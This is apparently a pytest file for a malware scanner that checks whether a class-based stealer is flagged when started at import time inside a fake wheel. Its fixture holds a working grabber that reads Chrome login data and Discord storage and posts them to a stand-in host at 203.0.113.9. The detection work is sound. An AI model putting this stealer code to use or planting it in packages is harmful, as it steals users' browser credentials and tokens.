"""A class's methods that a module-level line starts run on import, like its functions.

Stealers keep the payload in a class and start it with one line at column 0. Built in code:
the same class started at module level (import time, high), started through an instance
variable or ``self.other()``, and only under the ``__main__`` guard or never (not import time).
"""

from __future__ import annotations

from app.core.archive import open_artifact
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import make_wheel

GRABBER = b"""import os
import requests


class Grabber:
    def __init__(self):
        self.found = []

    def collect(self):
        base = os.getenv("LOCALAPPDATA")
        for sub in ("Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data", "discord\\\\Local Storage\\\\leveldb"):
            path = os.path.join(base, sub)
            if os.path.exists(path):
                self.found.append(open(path, "rb").read())
        return self.found

    def send(self):
        requests.post("https://203.0.113.9/upload", data=repr(self.collect()))
"""


def _scan(tmp_path, body: bytes):
    wheel = make_wheel(tmp_path, name="fmtkit", files={"fmtkit/__init__.py": body})
    return scan_artifact(open_artifact(wheel))


def _import_time(res):
    return [h for h in res.findings if h.place == "import" and h.path == "fmtkit/__init__.py"]


def test_a_method_started_at_module_level_is_import_time(tmp_path):
    res = _scan(tmp_path, GRABBER + b"\nGrabber().send()\n")
    assert _import_time(res)
    assert res.risk.level in ("high", "critical")
    assert any(t.id == "place.import_time" for t in res.threats)


def test_through_an_instance_variable_and_self_calls(tmp_path):
    res = _scan(tmp_path, GRABBER + b"\ng = Grabber()\ng.send()\n")
    lines = {h.line for h in _import_time(res)}
    # collect() runs because send() (started on load) calls self.collect()
    assert any(10 <= n <= 15 for n in lines), sorted(lines)
    assert res.risk.level in ("high", "critical")


def test_a_class_only_started_under_the_main_guard_is_not_import_time(tmp_path):
    res = _scan(tmp_path, GRABBER + b'\nif __name__ == "__main__":\n    Grabber().send()\n')
    assert not _import_time(res)


def test_a_class_nobody_starts_is_not_import_time(tmp_path):
    res = _scan(tmp_path, GRABBER)
    assert not _import_time(res)
